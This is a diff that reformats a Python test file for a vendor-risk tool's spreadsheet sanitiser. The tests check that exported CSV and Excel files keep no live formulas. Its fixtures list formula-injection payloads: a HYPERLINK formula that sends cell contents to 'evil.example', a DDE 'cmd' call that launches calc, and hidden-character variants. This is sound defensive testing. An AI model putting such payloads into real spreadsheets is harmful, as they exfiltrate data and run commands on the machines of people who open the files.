@@ -18,12 +18,30 @@ from vendor_risk.risk.xlsxsafe import safe_text, strip_invisible, unneutralise
 
 TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"
 HOSTILE = [
-    '=HYPERLINK("http://evil.example/?"&A1,"click")', " =1+1", "\u200b=cmd|' /C calc'!A0",
-    "\x01@SUM(1+1)", "\t=1", "\r\n+1", "\ufeff-2+3", "\u00a0\u3000＝1+1", "\u202e=1", "+cmd",
-    "@IMPORTXML(x)", "\x00\x1f=A1",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    " =1+1",
+    "\u200b=cmd|' /C calc'!A0",
+    "\x01@SUM(1+1)",
+    "\t=1",
+    "\r\n+1",
+    "\ufeff-2+3",
+    "\u00a0\u3000＝1+1",
+    "\u202e=1",
+    "+cmd",
+    "@IMPORTXML(x)",
+    "\x00\x1f=A1",
 ]
 INVISIBLE = set(chr(c) for c in range(0x20) if chr(c) not in "\t\n") | {
-    "\x7f", "\u200b", "\u200c", "\u200d", "\u200e", "\u202e", "\u2066", "\ufeff", "\u00ad"}
+    "\x7f",
+    "\u200b",
+    "\u200c",
+    "\u200d",
+    "\u200e",
+    "\u202e",
+    "\u2066",
+    "\ufeff",
+    "\u00ad",
+}
 
 
 def _formula_like(text):
@@ -37,8 +55,13 @@ def _live(text):
 
 
 @settings(max_examples=400, deadline=None)
-@given(st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from(
-    sorted(INVISIBLE) + list(TRIGGERS) + [" ", "\u00a0", "\u3000"]), max_size=40))
+@given(
+    st.text(
+        alphabet=st.characters(codec="utf-8")
+        | st.sampled_from(sorted(INVISIBLE) + list(TRIGGERS) + [" ", "\u00a0", "\u3000"]),
+        max_size=40,
+    )
+)
 def test_safe_text_over_arbitrary_unicode(text):
     out = safe_text(text)
     assert not INVISIBLE & set(out)
@@ -62,17 +85,36 @@ def test_openpyxl_stores_every_sanitised_text_as_text(tmp_path_factory, text):
 
 @pytest.fixture
 def hostile_city(tmp_path):
-    rows = [{"camera_id": text, "fabricant": ["Hikvision", text, "Axis"][i % 3],
-             "modele": text, "type": "camera", "annee": 2020, "cout": 900.0}
-            for i, text in enumerate(HOSTILE)]
-    uri = write_gpkg(tmp_path / "city.gpkg", "cameras", rows,
-                     [f"POINT ({700000 + i} 6600000)" for i in range(len(rows))])
+    rows = [
+        {
+            "camera_id": text,
+            "fabricant": ["Hikvision", text, "Axis"][i % 3],
+            "modele": text,
+            "type": "camera",
+            "annee": 2020,
+            "cout": 900.0,
+        }
+        for i, text in enumerate(HOSTILE)
+    ]
+    uri = write_gpkg(
+        tmp_path / "city.gpkg", "cameras", rows, [f"POINT ({700000 + i} 6600000)" for i in range(len(rows))]
+    )
     folder = tmp_path / "scenarios"
     folder.mkdir()
-    (folder / "evil.json").write_text(json.dumps({
-        "id": "evil", "name": {"en": '=HYPERLINK("http://x","y")'},
-        "description": "\u200b+cmd", "probability": 0.5, "list_scope": "bloc",
-        "removal_from_level": 1, "removal_deadline": "2028-06-30"}), encoding="utf-8")
+    (folder / "evil.json").write_text(
+        json.dumps(
+            {
+                "id": "evil",
+                "name": {"en": '=HYPERLINK("http://x","y")'},
+                "description": "\u200b+cmd",
+                "probability": 0.5,
+                "list_scope": "bloc",
+                "removal_from_level": 1,
+                "removal_deadline": "2028-06-30",
+            }
+        ),
+        encoding="utf-8",
+    )
     return tmp_path, uri, folder
 
 
@@ -89,8 +131,10 @@ def _workbook_cells(path):
 def test_review_file_is_safe_and_its_corrections_still_apply(hostile_city, provider):
     tmp, uri, _ = hostile_city
     review = tmp / "review.csv"
-    run_alg("vendorrisk:tagassets", {"INPUT": uri, "OUTPUT": str(tmp / "tagged.gpkg"),
-                                     "OUTPUT_REVIEW": str(review)})
+    run_alg(
+        "vendorrisk:tagassets",
+        {"INPUT": uri, "OUTPUT": str(tmp / "tagged.gpkg"), "OUTPUT_REVIEW": str(review)},
+    )
     text = review.read_text(encoding="utf-8")
     rows = list(csv.DictReader(io.StringIO(text)))
     assert rows and all(not _live(v) for r in rows for v in r.values())
@@ -102,8 +146,9 @@ def test_review_file_is_safe_and_its_corrections_still_apply(hostile_city, provi
         writer = csv.DictWriter(f, fieldnames=list(rows[0]))
         writer.writeheader()
         writer.writerows(rows)
-    res = run_alg("vendorrisk:tagassets", {"INPUT": uri, "OUTPUT": str(tmp / "t2.gpkg"),
-                                           "CORRECTIONS": str(fixed)})
+    res = run_alg(
+        "vendorrisk:tagassets", {"INPUT": uri, "OUTPUT": str(tmp / "t2.gpkg"), "CORRECTIONS": str(fixed)}
+    )
     from osgeo import ogr
 
     ds = ogr.Open(res["OUTPUT"].split("|")[0])
@@ -114,19 +159,29 @@ def test_review_file_is_safe_and_its_corrections_still_apply(hostile_city, provi
 def test_workbooks_hold_no_live_formula(hostile_city, provider):
     tmp, uri, scenarios = hostile_city
     gpkg = tmp / "risk.gpkg"
-    run_alg("vendorrisk:assessrisk", {"INPUT": [uri], "SCENARIO_FOLDER": str(scenarios),
-                                      "SCENARIOS": "evil,status_quo", "OUTPUT": str(gpkg)})
+    run_alg(
+        "vendorrisk:assessrisk",
+        {
+            "INPUT": [uri],
+            "SCENARIO_FOLDER": str(scenarios),
+            "SCENARIOS": "evil,status_quo",
+            "OUTPUT": str(gpkg),
+        },
+    )
     xlsx = tmp / "risk.xlsx"
     run_alg("vendorrisk:exportworkbook", {"INPUT": str(gpkg), "OUTPUT": str(xlsx)})
     audit = tmp / "audit.xlsx"
-    run_alg("vendorrisk:auditcameras", {"INPUT": uri, "OUTPUT": str(tmp / "audit.gpkg"),
-                                        "OUTPUT_XLSX": str(audit)})
+    run_alg(
+        "vendorrisk:auditcameras",
+        {"INPUT": uri, "OUTPUT": str(tmp / "audit.gpkg"), "OUTPUT_XLSX": str(audit)},
+    )
     for path in (xlsx, audit):
-        live = [(sheet, getattr(c, "coordinate", "chart"), getattr(c, "value", c))
-                for sheet, c in _workbook_cells(path)
-                if getattr(c, "data_type", "s") == "f" or _live(getattr(c, "value", None))]
+        live = [
+            (sheet, getattr(c, "coordinate", "chart"), getattr(c, "value", c))
+            for sheet, c in _workbook_cells(path)
+            if getattr(c, "data_type", "s") == "f" or _live(getattr(c, "value", None))
+        ]
         assert live == [], path
-        seen = [c.value for _, c in _workbook_cells(path) if isinstance(getattr(c, "value", None),
-                                                                         str)]
+        seen = [c.value for _, c in _workbook_cells(path) if isinstance(getattr(c, "value", None), str)]
         assert any("HYPERLINK" in v for v in seen), path  # the text is kept, inert
         assert not [v for v in seen if INVISIBLE & set(v)], path
